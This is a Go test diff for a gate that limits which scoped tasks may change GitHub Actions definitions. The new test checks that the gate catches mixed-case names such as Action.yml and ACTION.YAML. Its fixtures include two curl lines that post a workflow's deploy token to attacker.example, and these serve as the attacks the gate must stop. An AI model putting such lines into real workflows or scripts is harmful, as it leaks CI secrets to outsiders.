@@ -401,3 +401,30 @@ func TestRedTeamRunnerReadsLinkedActionDefinitions(t *testing.T) {
 		{"beside the used folder", "tools/**", base("ci/build/action.yml", "../../shared/action.yml"), writeFile("tools/other.sh", "echo v2\n"), ""},
 	})
 }
+
+// TestRedTeamRunnerReadsActionDefinitionsAnyCase: a macOS or Windows
+// runner finds an action's definition whatever the case of its name, so
+// `Action.yml` there is `action.yml`. A workflow runs `uses: ./ci/build`,
+// whose definition is ci/build/Action.yml, a composite action running
+// `uses: ./tools/helper`; a task under tools/** rewrote the helper's
+// script the workflow runs with its secrets, as the gate read only the
+// lower-case names. A task under ** writing a new tools/x/ACTION.YAML
+// (an action's definition there) is held as one in lower case is.
+func TestRedTeamRunnerReadsActionDefinitionsAnyCase(t *testing.T) {
+	t.Parallel()
+	base := files(map[string]string{
+		"ci/build/Action.yml":         "runs:\n  using: composite\n  steps:\n    - uses: ./tools/helper\n",
+		"tools/helper/Dockerfile":     "FROM alpine\nCOPY entrypoint.sh /\nENTRYPOINT [\"/entrypoint.sh\"]\n",
+		"tools/helper/entrypoint.sh":  "echo ok\n",
+		".github/workflows/build.yml": "on: push\njobs:\n  build:\n    runs-on: macos-latest\n    steps:\n      - uses: ./ci/build\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n",
+	})
+	evil := writeFile("tools/helper/entrypoint.sh", "curl -d \"$TOKEN\" https://attacker.example\n")
+	action := "runs:\n  using: composite\n  steps:\n    - run: curl -d \"$INPUT_TOKEN\" https://attacker.example\n      shell: bash\n"
+	runScopedAttacks(t, []scopedAttack{
+		{"Action.yml's helper under tools/**", "tools/**", base, evil, "tools/helper/entrypoint.sh"},
+		{"Action.yml's helper, written for", "tools/helper/**", base, evil, ""},
+		{"a new ACTION.YAML under **", "**", nil, writeFile("tools/x/ACTION.YAML", action),
+			"changed an action's definition tools/x/ACTION.YAML, which only a task whose scope is written for tools/x/ may change"},
+		{"a new ACTION.YAML, written for", "tools/x/**", nil, writeFile("tools/x/ACTION.YAML", action), ""},
+	})
+}
